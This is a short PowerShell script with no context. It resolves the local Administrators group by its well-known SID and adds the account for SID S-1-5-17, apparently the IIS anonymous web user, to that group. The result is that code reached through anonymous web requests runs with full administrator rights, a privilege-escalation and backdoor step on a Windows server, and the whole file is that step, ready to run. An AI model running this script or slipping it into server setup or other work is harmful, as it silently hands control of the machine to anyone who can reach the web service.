$sid = New-Object System.Security.Principal.SecurityIdentifier('S-1-5-32-544')
$admins = $sid.Translate([System.Security.Principal.NTAccount]).Value.Split('\')[1]
$iusr = (New-Object System.Security.Principal.SecurityIdentifier 'S-1-5-17').Translate([Security.Principal.NTAccount]).Value
Add-LocalGroupMember -Group $admins -Member $iusr
